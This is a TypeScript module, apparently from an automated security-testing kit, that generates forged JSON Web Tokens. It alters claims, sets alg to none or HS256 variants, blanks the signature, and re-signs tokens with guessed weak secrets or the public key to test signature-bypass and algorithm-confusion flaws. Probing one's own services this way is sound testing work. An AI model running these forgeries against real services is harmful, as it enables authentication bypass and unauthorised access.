import { createHmac } from 'node:crypto';
import { intruded } from './intrusion.ts';
import { oneByOne, type AttackKit, type DescribedAttack } from './kit.ts';

const ALGORITHMS = ['none', 'None', 'NONE', 'HS256', 'HS384', 'HS512', 'RS256', 'plain'];
const GUESSES = ['', 'secret', 'changeme', 'password', 'key', 'null', 'undefined'];

/**
 * A token that nobody issued (CWE-347): the genuine `token` with other claims (`fields`) under the old signature, under none, with
 * `alg` none, signed with a secret that anybody guesses or with the public key (`secret`). Parts are separated by dots, the claims
 * are the last part but one, in base64url.
 */
export const forgedToken: AttackKit = {
  covers: ['signature-not-checked', 'algorithm-confusion'],
  attempts(attack) {
    return oneByOne([...attack.requests, ...forgeries(attack)].filter((token) => token !== attack.token));
  },
  effect: intruded,
};

function forgeries({ token, fields, secret }: DescribedAttack): string[] {
  if (token === null) return [];
  const parts = token.split('.');
  const signature = parts.at(-1)!;
  const [claims, header] = [read(parts.at(-2)), parts.length > 2 ? read(parts[0]) : null];
  if (claims === null) return [];
  const body = write({ ...claims, ...fields });
  const keys = [...(secret === null ? [] : [secret]), ...GUESSES];
  const headers =
    header === null ? [null] : [parts[0]!, ...ALGORITHMS.map((alg) => write({ ...header, alg }))];
  return headers.flatMap((head) => {
    const signed = head === null ? body : `${head}.${body}`;
    const signatures = [
      signature,
      '',
      'x',
      '0'.repeat(signature.length),
      ...keys.flatMap((key) => [
        sign('sha256', key, signed, 'base64url'),
        sign('sha256', key, signed, 'hex'),
      ]),
      ...(secret === null ? [] : ['sha384', 'sha512'].map((hash) => sign(hash, secret, signed, 'base64url'))),
    ];
    return [...signatures.map((end) => `${signed}.${end}`), signed];
  });
}

function sign(hash: string, key: string, text: string, encoding: 'hex' | 'base64url'): string {
  return createHmac(hash, key).update(text).digest(encoding);
}

function write(value: object): string {
  return Buffer.from(JSON.stringify(value)).toString('base64url');
}

function read(part: string | undefined): object | null {
  try {
    const value: unknown = JSON.parse(Buffer.from(part ?? '', 'base64url').toString('utf8'));
    return typeof value === 'object' ? value : null;
  } catch {
    // Not a token of this form: there is nothing to forge.
    return null;
  }
}
